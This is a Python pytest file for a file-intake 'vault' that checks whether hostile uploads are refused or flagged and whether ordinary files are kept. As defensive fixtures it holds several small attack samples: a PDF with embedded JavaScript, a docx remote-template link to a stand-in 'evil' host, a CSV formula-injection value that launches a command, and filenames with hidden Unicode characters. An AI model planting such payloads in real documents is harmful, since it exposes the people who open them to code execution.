"""What must not get in does not, says why, and leaves nothing; what people hand in every day does (T14)."""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path

import pytest

from made_evidence import docx, encoded, pdf, photo, pixels
from refusing import refuses
from vault.hostile import HOSTILE, KEPT
from weipian.terms.errors import InputError
from weipian.vault.looking.eye import Eye
from weipian.vault.looking.looked import Looked
from weipian.vault.places import Places
from weipian.vault.taking import Taken, take

Take = Callable[[str, bytes], Taken]
pytestmark = pytest.mark.requirement("F1", "F3")


def left(places: Places) -> list[Path]:
    return [path for path in places.root.rglob("*") if not path.is_dir()]


@pytest.mark.parametrize(("name", "code", "made"), HOSTILE, ids=[f"{name}-{code}" for name, code, _ in HOSTILE])
def test_it_is_refused_and_nothing_stays(
    name: str, code: str, made: Callable[[], bytes], taking: Take, places: Places
) -> None:
    with refuses(code, InputError):
        taking(name, made())
    assert left(places) == []


@pytest.mark.parametrize(("name", "media_type", "made"), KEPT, ids=[name for name, *_ in KEPT])
def test_what_people_hand_in_is_kept_as_what_it_is(
    name: str, media_type: str, made: Callable[[], bytes], taking: Take, places: Places
) -> None:
    data = made()
    taken = taking(name, data)
    assert taken.kind.media_type == media_type
    assert places.original(taken.sums.sha256).read_bytes() == data
    assert [path.parent.name for path in left(places) if "coming" in path.parts] == []


def codes(taken: Taken | Looked) -> set[str]:
    return {note.code for note in taken.notes}


def test_a_suffix_that_lies_is_said_and_the_content_counts(taking: Take) -> None:
    taken = taking("照片.png", photo())
    assert taken.kind.media_type == "image/jpeg"
    assert codes(taken) == {"said_evidence_other_suffix"}
    assert codes(taking("没有扩展名", pdf())) == {"said_evidence_other_suffix"}


def test_what_may_be_active_in_a_document_is_said(taking: Take) -> None:
    assert codes(taking("a.pdf", pdf(b"<</S/JavaScript/JS(app.alert(1))>>"))) == {"said_evidence_active"}
    assert codes(taking("b.pdf", pdf(b"<</Encrypt 5 0 R>>"))) == {"said_evidence_locked"}
    relations = b'<Relationship Type="http://x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/>'
    assert codes(taking("c.docx", docx(**{"word/_rels/settings.xml.rels": relations}))) == {"said_evidence_active"}
    assert codes(taking("d.docx", docx(**{"word/embeddings/oleObject1.bin": b"x"}))) == {"said_evidence_active"}
    assert codes(taking("e.csv", b"a,b\n1,=cmd|'/c calc'!A0\n")) == {"said_evidence_formula"}


def test_what_phones_put_behind_a_picture_is_said(taking: Take) -> None:
    film = b"\x00\x00\x00\x18ftypmp42" + bytes(200)
    assert codes(taking("动态照片.jpg", photo() + film)) == {"said_evidence_behind"}
    assert codes(taking("补零.jpg", photo() + bytes(500))) == set()
    stereo = encoded("MPO", save_all=True, append_images=[pixels()])
    assert taking("双镜头.jpg", stereo).kind.media_type == "image/jpeg"


def test_names_are_kept_for_people_without_signs_that_hide(taking: Take) -> None:
    long = "长" * 83 + ".jpg"
    assert len(long.encode()) == 253
    assert taking(long, photo()).name == long
    taken = taking("看\u200b不\u202e见.jpg", photo())
    assert (taken.name, codes(taken)) == ("看不见.jpg", {"said_evidence_name"})


@pytest.mark.skipif(os.name == "nt", reason="names are text there")
def test_a_name_that_is_no_text_is_taken(taking: Take, tmp_path: Path) -> None:
    name = os.fsdecode("照片".encode("gbk") + b".jpg")
    taken = taking(name, photo())
    assert taken.name.encode("utf-8")
    assert taken.name.endswith(".jpg")


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no pipes")
def test_a_pipe_or_folder_or_nothing_is_no_file(places: Places, eye: Eye, tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "管道.jpg")
    for path in (tmp_path / "管道.jpg", tmp_path, tmp_path / "没有.jpg"):
        with refuses("evidence_unreadable", InputError):
            take(places, eye, path, 1 << 20)


def test_one_byte_over_the_bound_is_refused(places: Places, eye: Eye, tmp_path: Path) -> None:
    path = tmp_path / "大.txt"
    path.write_bytes(b"a" * (1 << 20))
    assert take(places, eye, path, 1 << 20).sums.size == 1 << 20
    path.write_bytes(b"a" * ((1 << 20) + 1))
    with refuses("evidence_too_large", InputError):
        take(places, eye, path, 1 << 20)


def test_a_broken_looking_process_costs_one_file(eye: Eye, tmp_path: Path) -> None:
    path = tmp_path / "a.txt"
    path.write_bytes(b"abc")
    assert eye.look(path, ".txt", {}).kind.media_type == "text/plain"
    assert eye.process is not None
    eye.process.kill()
    eye.process.wait()
    assert eye.look(path, ".txt", {}).kind.media_type == "text/plain"


def test_files_that_broke_other_readers_break_nothing(shared: Path, places: Places, eye: Eye) -> None:
    """exiv2's crash and hang reproducers, odd real photos: each is kept or refused with a sentence."""
    files = sorted(path for path in (shared / "data/photos/hostile").rglob("*") if path.is_file())
    assert len(files) > 50
    told = set()
    for path in files:
        try:
            take(places, eye, path, 1 << 30)
        except InputError as error:
            told.add(error.code.partition("_")[0])
    assert told == {"evidence"}
    if places.coming.exists():
        assert list(places.coming.iterdir()) == []
